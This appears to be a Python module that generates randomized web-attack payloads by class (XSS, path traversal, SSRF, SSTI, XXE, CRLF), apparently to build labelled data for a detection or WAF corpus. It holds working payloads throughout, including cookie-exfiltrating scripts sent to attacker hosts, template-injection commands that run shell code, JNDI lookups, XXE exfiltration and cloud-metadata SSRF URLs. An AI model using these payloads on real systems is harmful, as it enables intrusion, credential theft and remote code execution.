"""Template grammars for xss, path_traversal, ssrf, ssti, xxe and crlf.

Same contract as ``attacks_injection``: one function = one template group, returning the raw
attack value with randomized parameters drawn from the given ``rng`` only.

Label decisions documented here:
- log4shell-style ``${jndi:ldap://...}`` lookups are ``ssti``: the payload is an expression
  evaluated by the server's interpolation engine (the outbound fetch is a consequence).
- remote file inclusion (``?page=http://evil/shell.txt``) is ``ssrf`` (the server fetches an
  attacker URL), matching the CRS importer's default map.
"""

from __future__ import annotations

import random

from optimizer.tasks.corpus.common import (
    ATTACKER_HOSTS,
    ATTACKER_IPS,
    SECRETS_FILES,
    WIN_FILES,
    Template,
    pick,
    rand_hex,
    rand_word,
    vpick,
)

# ---------------------------------------------------------------- xss

_JS = ("alert(1)", "alert(document.cookie)", "alert(document.domain)", "prompt(1)", "confirm(1)",
       "print()", "fetch('//{h}/?c='+document.cookie)", "new Image().src='//{h}/'+document.cookie",
       "eval(atob('YWxlcnQoMSk='))", "location='//{h}/?'+document.cookie")
_EVENTS = ("onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onanimationstart",
           "onpointerenter", "onbegin")


def _js(r: random.Random) -> str:
    return pick(r, _JS).replace("{h}", pick(r, ATTACKER_HOSTS))


def xss_script_tag(r: random.Random) -> str:
    pre = pick(r, ("", "\">", "'>", "</title>", "</textarea>", rand_word(r)))
    return vpick(r, (f"{pre}<script>{_js(r)}</script>",
                     f"{pre}<script src=//{pick(r, ATTACKER_HOSTS)}/x.js></script>",
                     f"{pre}<script>{_js(r)};//",
                     f"{pre}<script type=text/javascript>{_js(r)}</script>"))


def xss_event_handler(r: random.Random) -> str:
    tag = vpick(r, ("img src=x", "svg", "body", "video src=1", "details open", "input autofocus",
                    "iframe", "marquee", "audio src=x", "select autofocus"))
    ev = pick(r, _EVENTS)
    q = pick(r, ("", "'", '"'))
    pre = pick(r, ("", '">', "><"))
    return f"{pre}<{tag} {ev}={q}{_js(r)}{q}>"


def xss_attr_breakout(r: random.Random) -> str:
    return vpick(r, (f"\" {pick(r, _EVENTS)}=\"{_js(r)}", f"' autofocus onfocus='{_js(r)}",
                     f"\" onmouseover={_js(r)} x=\"",
                     f"x\" style=\"animation-name:x\" onanimationstart=\"{_js(r)}"))


def xss_js_uri(r: random.Random) -> str:
    return vpick(r, (f"javascript:{_js(r)}", f"<a href=\"javascript:{_js(r)}\">click</a>",
                     f"<iframe src=\"javascript:{_js(r)}\">", f"JaVaScRiPt:{_js(r)}",
                     f"data:text/html,<script>{_js(r)}</script>",
                     "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="))


def xss_js_context(r: random.Random) -> str:
    return vpick(r, (f"';{_js(r)};//", f"\";{_js(r)};//", f"</script><script>{_js(r)}</script>",
                     f"'-{_js(r)}-'", f"\\';{_js(r)}//", f"`-{_js(r)}-`"))


def xss_svg_math(r: random.Random) -> str:
    return vpick(r, (f"<svg><animate onbegin={_js(r)} attributeName=x dur=1s>",
                     f"<svg><script>{_js(r)}</script></svg>",
                     f"<math><mtext><table><mglyph><style><img src=x onerror={_js(r)}>",
                     f"<svg/onload={_js(r)}>", f"<object data=\"javascript:{_js(r)}\">",
                     f"<embed src=\"data:image/svg+xml,<svg onload={_js(r)}>\">"))


def xss_dom_template(r: random.Random) -> str:
    return vpick(r, (f"#<img src=x onerror={_js(r)}>", "{{constructor.constructor('alert(1)')()}}",
                     f"<div ng-app ng-csp><div ng-click=$event.view.alert(1)>{rand_word(r)}",
                     f"<x v-html=\"'<img src=x onerror={_js(r)}>'\">",
                     f"<base href=\"//{pick(r, ATTACKER_HOSTS)}/\">",
                     f"<form action=javascript:{_js(r)}><input type=submit>"))


def xss_stored_markup(r: random.Random) -> str:
    name = rand_word(r).title()
    return vpick(r, (f"Nice post! <img src=x onerror={_js(r)}>",
                     f"{name}<script>{_js(r)}</script>",
                     f"Great product, 5 stars <svg onload={_js(r)}>",
                     f"<a href=# onclick=\"{_js(r)}\">{name}</a>",
                     f"<iframe srcdoc=\"<script>{_js(r)}</script>\"></iframe>"))


# ---------------------------------------------------------------- path traversal

def _dots(r: random.Random, n: int) -> str:
    sep = pick(r, ("../", "..\\", "....//", "..;/", "..././"))
    return sep * n


def pt_classic(r: random.Random) -> str:
    return f"{_dots(r, r.randint(2, 9))}{vpick(r, SECRETS_FILES).lstrip('/')}"


def pt_absolute(r: random.Random) -> str:
    return vpick(r, (pick(r, SECRETS_FILES), f"file:///{pick(r, SECRETS_FILES).lstrip('/')}",
                     f"{pick(r, SECRETS_FILES)}%00.{pick(r, ('png', 'jpg', 'pdf'))}",
                     f"/var/www/../../{pick(r, SECRETS_FILES).lstrip('/')}"))


def pt_windows(r: random.Random) -> str:
    f = pick(r, WIN_FILES)
    return vpick(r, ("..\\" * r.randint(2, 7) + f.split("\\", 1)[1], f,
                     "../" * r.randint(2, 6) + f.split("\\", 1)[1].replace("\\", "/")))


def pt_prefixed(r: random.Random) -> str:
    base = vpick(r, ("images/", "/var/www/uploads/", "static/", "docs/", "templates/", "lang/"))
    return f"{base}{_dots(r, r.randint(3, 8))}{pick(r, SECRETS_FILES).lstrip('/')}"


def pt_null_ext(r: random.Random) -> str:
    ext = pick(r, ("php", "html", "png", "txt", "jpg"))
    return f"{'../' * r.randint(3, 8)}{vpick(r, SECRETS_FILES).lstrip('/')}%00.{ext}"


def pt_php_wrapper(r: random.Random) -> str:
    page = pick(r, ("index", "config", "db", "admin", "login"))
    return vpick(r, (f"php://filter/convert.base64-encode/resource={page}.php",
                     f"php://filter/read=string.rot13/resource={page}",
                     f"zip://uploads/{rand_hex(r, 6)}.jpg%23shell", "php://input",
                     "expect://id", f"phar://uploads/{rand_word(r)}.gif/test"))


def pt_app_files(r: random.Random) -> str:
    f = vpick(r, ("WEB-INF/web.xml", ".env", "config/database.yml", ".git/config", "wp-config.php",
                  "app/etc/local.xml", "../.htpasswd", "settings.py", ".aws/credentials"))
    return f"{'../' * r.randint(1, 6)}{f}"


# ---------------------------------------------------------------- ssrf

_INTERNAL = ("127.0.0.1", "localhost", "0.0.0.0", "10.0.0.{o}", "192.168.1.{o}", "172.16.0.{o}",
             "[::1]", "internal-api.local", "kubernetes.default.svc", "127.1", "0")
_PORTS = ("", ":22", ":6379", ":8080", ":9200", ":2375", ":5984", ":11211", ":3306", ":8500")


def ssrf_internal(r: random.Random) -> str:
    host = vpick(r, _INTERNAL).replace("{o}", str(r.randint(1, 254)))
    path = pick(r, ("/", "/admin", "/server-status", "/actuator/env", "/_cat/indices",
                    "/v1/agent/self",
                    "/debug/pprof", "/metrics", "/internal/users"))
    return f"{pick(r, ('http', 'https'))}://{host}{pick(r, _PORTS)}{path}"


def ssrf_cloud_metadata(r: random.Random) -> str:
    return vpick(r, ("http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                     f"http://169.254.169.254/latest/meta-data/iam/security-credentials/{rand_word(r)}-role",
                     "http://169.254.169.254/latest/user-data",
                     "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
                     "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
                     "http://100.100.100.200/latest/meta-data/",
                     "http://169.254.170.2/v2/credentials",
                     "http://[fd00:ec2::254]/latest/meta-data/"))


def ssrf_ip_obfuscated(r: random.Random) -> str:
    return vpick(r, ("http://2130706433/", "http://0x7f000001/", "http://0177.0.0.1/",
                     "http://2852039166/latest/meta-data/", "http://0xA9FEA9FE/",
                     "http://127.0.0.1.nip.io/", f"http://localtest.me:{r.randint(80, 9000)}/",
                     "http://[0:0:0:0:0:ffff:127.0.0.1]/", "http://①②⑦.⓪.⓪.①/",
                     "http://017700000001/admin"))


def ssrf_scheme(r: random.Random) -> str:
    return vpick(r, ("gopher://127.0.0.1:6379/_FLUSHALL%0d%0aSET%20x%20y",
                     "dict://127.0.0.1:11211/stats",
                     "dict://localhost:6379/info", "ftp://127.0.0.1:21/",
                     "ldap://127.0.0.1:389/dc=example", "tftp://127.0.0.1/x",
                     "gopher://localhost:25/_HELO%20localhost", "jar:http://127.0.0.1!/"))


def ssrf_redirect_bypass(r: random.Random) -> str:
    return vpick(r, (f"http://{pick(r, ('example.com', 'trusted.example.org'))}@127.0.0.1/",
                     f"http://127.0.0.1#@{pick(r, ('example.com', 'cdn.example.net'))}/",
                     f"http://{pick(r, ATTACKER_HOSTS)}/redirect?to=http://169.254.169.254/",
                     f"https://{pick(r, ATTACKER_HOSTS)}/302.php?u=http://localhost:8080/admin",
                     "http://127.0.0.1:80\\@example.com/",
                     "http://spoofed.burpcollaborator.net.127.0.0.1.nip.io/"))


def ssrf_rfi(r: random.Random) -> str:
    h = pick(r, ATTACKER_HOSTS + ATTACKER_IPS)
    return vpick(r, (f"http://{h}/shell.txt?", f"https://{h}/{rand_word(r)}.php",
                     f"\\\\{h}\\share\\x.php", f"ftp://{h}/backdoor.txt%00",
                     f"http://{h}/c99.txt?cmd=id"))


# ---------------------------------------------------------------- ssti

def ssti_probe(r: random.Random) -> str:
    a, b = r.randint(3, 99), r.randint(3, 99)
    return vpick(r, (f"{{{{{a}*{b}}}}}", f"${{{a}*{b}}}", f"<%= {a}*{b} %>", f"#{{{a}*{b}}}",
                     f"{{{{{a}*'{b}'}}}}", f"*{{{a}*{b}}}", f"@({a}*{b})", f"{{{{= {a}*{b} }}}}"))


def ssti_jinja_rce(r: random.Random) -> str:
    cmd = pick(r, ("id", "whoami", "cat /etc/passwd", "uname -a"))
    return vpick(r, (f"{{{{ config.__class__.__init__.__globals__['os'].popen('{cmd}').read() }}}}",
                     f"{{{{ self._TemplateReference__context.cycler.__init__."
                     f"__globals__.os.popen('{cmd}').read() }}}}",
                     "{{ ''.__class__.__mro__[1].__subclasses__() }}",
                     f"{{{{ lipsum.__globals__.os.popen('{cmd}').read() }}}}",
                     "{{ config.items() }}", "{{ request.application.__globals__.__builtins__ }}",
                     f"{{% for c in [].__class__.__base__.__subclasses__() %}}"
                     f"{{% if c.__name__=='catch_warnings' %}}"
                     f"{{{{ c.__init__.__globals__['__builtins__']"
                     f".eval(\"__import__('os').popen('{cmd}').read()\") }}}}"
                     f"{{% endif %}}{{% endfor %}}"))


def ssti_java_el(r: random.Random) -> str:
    return vpick(r, ("${T(java.lang.Runtime).getRuntime().exec('id')}",
                     "*{T(java.lang.Runtime).getRuntime().exec('whoami')}",
                     "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
                     "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
                     "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))",
                     "${facesContext.getExternalContext().getRequest()}",
                     "%{(#_memberAccess['allowStaticMethodAccess']=true)(@java.lang.Runtime@getRuntime().exec('id'))}",
                     "${applicationScope}"))


def ssti_jndi_lookup(r: random.Random) -> str:
    h = pick(r, ATTACKER_HOSTS)
    return vpick(r, (f"${{jndi:ldap://{h}/a}}", f"${{jndi:rmi://{h}:1099/{rand_word(r)}}}",
                     f"${{jndi:dns://{h}/{rand_hex(r, 6)}}}",
                     f"${{${{lower:j}}ndi:${{lower:l}}dap://{h}/x}}",
                     f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:ldap://{h}/o}}",
                     f"${{jndi:ldap://${{env:USER}}.{h}/a}}", "${env:AWS_SECRET_ACCESS_KEY}"))


def ssti_other_engines(r: random.Random) -> str:
    return vpick(r, ("{{#with \"s\" as |string|}}{{string.sub \"constructor\"}}{{/with}}",
                     "<%= system('id') %>", "<%= `ls /` %>", "{php}echo `id`;{/php}",
                     "{system('cat /etc/passwd')}",
                     "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}"
                     "{{_self.env.getFilter(\"id\")}}", "{{['id']|filter('system')}}",
                     "#{7*7}",
                     "{{range.constructor(\"return global.process.mainModule.require"
                     "('child_process').execSync('id')\")()}}",
                     "@{var x = System.Diagnostics.Process.Start(\"cmd.exe\");}"))


# ---------------------------------------------------------------- xxe

def _xml_head(r: random.Random) -> str:
    return pick(r, ('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>',
                    '<?xml version="1.0" encoding="ISO-8859-1"?>', ""))


def xxe_file(r: random.Random) -> str:
    root, el = pick(r, ("foo", "root", "data", "user", "order")), pick(r, ("name", "id", "q",
                                                                           "comment"))
    tgt = vpick(r, (f"file://{pick(r, SECRETS_FILES)}", "file:///c:/windows/win.ini",
                    f"php://filter/convert.base64-encode/"
                    f"resource={pick(r, ('index.php', '/etc/passwd'))}"))
    ent = pick(r, ("xxe", "x", "ent", "file", "a"))
    return (f'{_xml_head(r)}<!DOCTYPE {root} [<!ENTITY {ent} SYSTEM "{tgt}">]>'
            f"<{root}><{el}>&{ent};</{el}></{root}>")


def xxe_ssrf(r: random.Random) -> str:
    url = vpick(r, ("http://169.254.169.254/latest/meta-data/",
                    f"http://{pick(r, ATTACKER_HOSTS)}/x",
                    f"http://127.0.0.1:{r.randint(80, 9000)}/", "http://internal.local/admin"))
    return f'{_xml_head(r)}<!DOCTYPE r [<!ENTITY e SYSTEM "{url}">]><r>&e;</r>'


def xxe_parameter_entity(r: random.Random) -> str:
    h = pick(r, ATTACKER_HOSTS)
    return vpick(r, (f'<!DOCTYPE d [<!ENTITY % ext SYSTEM "http://{h}/evil.dtd"> %ext;]><d>x</d>',
                     f"{_xml_head(r)}<!DOCTYPE foo "
                     f'[<!ENTITY % xxe SYSTEM "http://{h}/{rand_hex(r, 4)}.dtd"> '
                     f'%xxe; %param1;]><foo>&exfil;</foo>',
                     '<!DOCTYPE x [<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % eval '
                     f'"<!ENTITY &#x25; exfil SYSTEM \'http://{h}/?x=%file;\'>">%eval;%exfil;]>'))


def xxe_billion_laughs(r: random.Random) -> str:
    n = vpick(r, (3, 4, 5, 6))
    ents = ['<!ENTITY l0 "lol">'] + [f'<!ENTITY l{i} "{f"&l{i - 1};" * 9}">' for i in range(1, n)]
    return f"{_xml_head(r)}<!DOCTYPE lolz [{''.join(ents)}]><lolz>&l{n - 1};</lolz>"


def xxe_svg_docx(r: random.Random) -> str:
    return vpick(r, ('<?xml version="1.0" standalone="yes"?><!DOCTYPE test [<!ENTITY xxe SYSTEM '
                     '"file:///etc/hostname">]><svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg">'
                     '<text font-size="16" x="0" y="16">&xxe;</text></svg>',
                     f'<!DOCTYPE soap [<!ENTITY x SYSTEM "file://{pick(r, SECRETS_FILES)}">]>'
                     f'<soap:Envelope '
                     'xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><q>&x;</q></soap:Body></soap:Envelope>',
                     '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>',
                     '<?xml version="1.0"?>'
                     f'<!DOCTYPE rss SYSTEM "http://{pick(r, ATTACKER_HOSTS)}/rss.dtd">'
                     f'<rss/>'))


# ---------------------------------------------------------------- crlf

def _nl(r: random.Random) -> str:
    return pick(r, ("%0d%0a", "%0D%0A", "\r\n", "%0a", "\n", "%0d%0a%20"))


def crlf_set_cookie(r: random.Random) -> str:
    return (f"{pick(r, ('/', '/home', 'en', rand_word(r)))}{_nl(r)}Set-Cookie: "
            f"{vpick(r, ('session', 'sid', 'admin', 'PHPSESSID'))}={rand_hex(r, 12)}")


def crlf_header_inject(r: random.Random) -> str:
    hdr = vpick(r, (f"Location: http://{pick(r, ATTACKER_HOSTS)}/", "X-XSS-Protection: 0",
                    "Access-Control-Allow-Origin: *", "Content-Length: 0",
                    f"X-Injected: {rand_word(r)}", "Refresh: 0; url=http://" + pick(r,
                                                                                   ATTACKER_HOSTS)))
    return f"{pick(r, ('', rand_word(r), 'index.html', '1'))}{_nl(r)}{hdr}"


def crlf_response_split(r: random.Random) -> str:
    nl = pick(r, ("%0d%0a", "\r\n"))
    body = vpick(r, ("owned", "<script>alert(1)</script>", "Login here"))
    return (f"{rand_word(r)}{nl}Content-Length: 0{nl}{nl}HTTP/1.1 200 OK{nl}Content-Type: text/html"
            f"{nl}{nl}<html>{body}</html>")


def crlf_log_inject(r: random.Random) -> str:
    ts = (f"2025-{r.randint(1, 12):02d}-{r.randint(1, 28):02d} "
          f"{r.randint(0, 23):02d}:{r.randint(0, 59):02d}")
    return vpick(r, (f"{rand_word(r)}{_nl(r)}{ts} INFO user=admin action=login status=success",
                     f"guest{_nl(r)}[{ts}] Authentication succeeded for root",
                     f"x{_nl(r)}127.0.0.1 - admin [{ts}] \"GET /admin HTTP/1.1\" 200"))


def crlf_smtp_header(r: random.Random) -> str:
    return vpick(r, (f"user@example.com{_nl(r)}Bcc: {rand_word(r)}@{pick(r, ATTACKER_HOSTS)}",
                     f"Hello{_nl(r)}Cc: victim@example.org{_nl(r)}Subject: urgent",
                     f"{rand_word(r)}@example.com{_nl(r)}Content-Type: text/html"))


def crlf_unicode_nl(r: random.Random) -> str:
    return vpick(r, (f"%E5%98%8A%E5%98%8DSet-Cookie:{rand_word(r)}=1",
                     f"/{rand_word(r)}%E5%98%8A%E5%98%8D"
                     f"Location:%20http://{pick(r, ATTACKER_HOSTS)}",
                     f"%u000d%u000aX-Forwarded-Host: {pick(r, ATTACKER_HOSTS)}",
                     f"\\r\\nSet-Cookie: sid={rand_hex(r, 8)}"))


WEB_TEMPLATES: dict[str, list[tuple[str, Template]]] = {
    "xss": [("script_tag", xss_script_tag), ("event_handler", xss_event_handler),
            ("attr_breakout", xss_attr_breakout), ("js_uri", xss_js_uri),
            ("js_context", xss_js_context), ("svg_math", xss_svg_math),
            ("dom_template", xss_dom_template), ("stored_markup", xss_stored_markup)],
    "path_traversal": [("classic", pt_classic), ("absolute", pt_absolute), ("windows", pt_windows),
                       ("prefixed", pt_prefixed), ("null_ext", pt_null_ext),
                       ("php_wrapper", pt_php_wrapper), ("app_files", pt_app_files)],
    "ssrf": [("internal", ssrf_internal), ("cloud_metadata", ssrf_cloud_metadata),
             ("ip_obfuscated", ssrf_ip_obfuscated), ("scheme", ssrf_scheme),
             ("redirect_bypass", ssrf_redirect_bypass), ("rfi", ssrf_rfi)],
    "ssti": [("probe", ssti_probe), ("jinja_rce", ssti_jinja_rce), ("java_el", ssti_java_el),
             ("jndi_lookup", ssti_jndi_lookup), ("other_engines", ssti_other_engines)],
    "xxe": [("file", xxe_file), ("ssrf", xxe_ssrf), ("parameter_entity", xxe_parameter_entity),
            ("billion_laughs", xxe_billion_laughs), ("svg_docx", xxe_svg_docx)],
    "crlf": [("set_cookie", crlf_set_cookie), ("header_inject", crlf_header_inject),
             ("response_split", crlf_response_split), ("log_inject", crlf_log_inject),
             ("smtp_header", crlf_smtp_header), ("unicode_nl", crlf_unicode_nl)],
}
